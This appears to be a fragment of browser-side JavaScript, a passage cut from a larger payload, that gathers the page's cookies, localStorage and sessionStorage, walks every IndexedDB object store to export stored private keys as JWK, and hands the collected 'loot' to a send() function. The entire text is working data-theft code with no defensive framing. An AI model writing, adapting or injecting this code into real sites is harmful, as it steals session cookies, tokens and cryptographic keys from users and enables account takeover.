const loot = {cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage}};
  for (const {name} of await indexedDB.databases()) {
    const opened = await new Promise(done => { indexedDB.open(name).onsuccess = event => done(event.target.result); });
    for (const each of opened.objectStoreNames) {
      const rows = opened.transaction(each).objectStore(each).getAll();
      await new Promise(done => { rows.onsuccess = done; });
      for (const {privateKey} of rows.result)
        loot[each] = await crypto.subtle.exportKey("jwk", privateKey).catch(error => error.name);
    }
  }
  await send(loot);
